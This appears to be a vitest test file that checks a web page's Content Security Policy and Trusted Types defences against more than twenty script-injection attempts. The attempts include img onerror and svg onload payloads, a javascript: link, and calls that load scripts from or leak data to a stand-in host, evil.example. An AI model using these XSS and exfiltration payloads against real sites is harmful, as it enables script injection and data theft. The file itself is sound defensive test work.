import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { withBarePage } from './browser.ts'
import { runHost } from './screens.ts'

const bare = withBarePage()

describe('S04 text that became part of the page by a mistake of ours', () => {
  /** What an attack tries; each sets `window.hit` when it works. */
  const attacks: readonly (readonly [string, string])[] = [
    ['an image with a handler', `document.body.innerHTML = '<img src=x onerror="window.hit=1">'`],
    ['a picture with a script', `document.body.innerHTML = '<svg onload="window.hit=1"></svg>'`],
    ['adjacent HTML', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit=1">')`],
    ['outer HTML', `document.body.firstElementChild.outerHTML = '<img src=x onerror="window.hit=1">'`],
    ['a parsed document', `new DOMParser().parseFromString('<b>', 'text/html')`],
    ['document.write', `document.write('<script>window.hit=1</scr' + 'ipt>')`],
    [
      'a frame with a document',
      `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit=1</scr' + 'ipt>'; document.body.append(f)`,
    ],
    [
      'an inline script',
      `const s = document.createElement('script'); s.text = 'window.hit=1'; document.body.append(s)`,
    ],
    [
      'a foreign script',
      `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
    ],
    [
      'a script from data',
      `const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=1'; document.body.append(s)`,
    ],
    ['a handler attribute', `document.body.setAttribute('onclick', 'window.hit=1'); document.body.click()`],
    [
      'a javascript: link',
      `const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click()`,
    ],
    [
      'a worker from data',
      `new Worker('data:text/javascript,postMessage(1)').onmessage = () => { window.hit = 1 }`,
    ],
    ['a foreign worker', `new Worker('https://evil.example/x.js')`],
    ['a second policy', `trustedTypes.createPolicy('other', { createHTML: (text) => text }); window.hit = 1`],
    [
      'another default policy',
      `trustedTypes.createPolicy('default', { createHTML: (text) => text }); window.hit = 1`,
    ],
    [
      'a form to elsewhere',
      `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()`,
    ],
    [
      'a base address',
      `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (new URL('x', document.baseURI).host === 'evil.example') window.hit = 1`,
    ],
    [
      'an inline style',
      `const s = document.createElement('style'); s.append('body { --hit: 1 }'); document.head.append(s); if (getComputedStyle(document.body).getPropertyValue('--hit') !== '') window.hit = 1`,
    ],
    ['a foreign picture', `new Image().src = 'https://evil.example/leak.png'`],
    ['a foreign fetch', `fetch('https://evil.example/leak').then(() => { window.hit = 1 })`],
    ['a foreign socket', `new WebSocket('wss://evil.example/').onopen = () => { window.hit = 1 }`],
    ['a beacon', `navigator.sendBeacon('https://evil.example/leak', 'x')`],
  ]

  test.each(attacks)('does nothing: %s', async (_, attack) => {
    const host = await runHost({ files: join(bare.files(), 'out') })
    const { page, requests } = await bare.open(`http://127.0.0.1:${host.port}/`)
    const before = requests.length
    // As if a script file of ours did it: the test's protocol may evaluate where the page may not.
    await page.evaluate(`
      addEventListener('securitypolicyviolation', () => { window.stopped = true });
      try { ${attack} } catch { window.stopped = true }
      undefined
    `)
    await page.waitForFunction(() => Reflect.get(globalThis, 'stopped') === true)
    expect(await page.evaluate('window.hit')).toBeUndefined()
    expect(requests.slice(before)).toEqual([])
    expect(page.url()).toBe(`http://127.0.0.1:${host.port}/`)
  })

  test('and the first of them works where there is no policy', async () => {
    const host = await runHost({ files: join(bare.files(), 'out') })
    const { page } = await bare.open('about:blank')
    await page.route('**/*', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<body><p>Page</p></body>' }),
    )
    await page.goto(`http://127.0.0.1:${host.port}/`)
    await page.evaluate(`document.body.innerHTML = '<img src=x onerror="window.hit=1">'`)
    await page.waitForFunction(() => Reflect.get(globalThis, 'hit') === 1)
  })
})
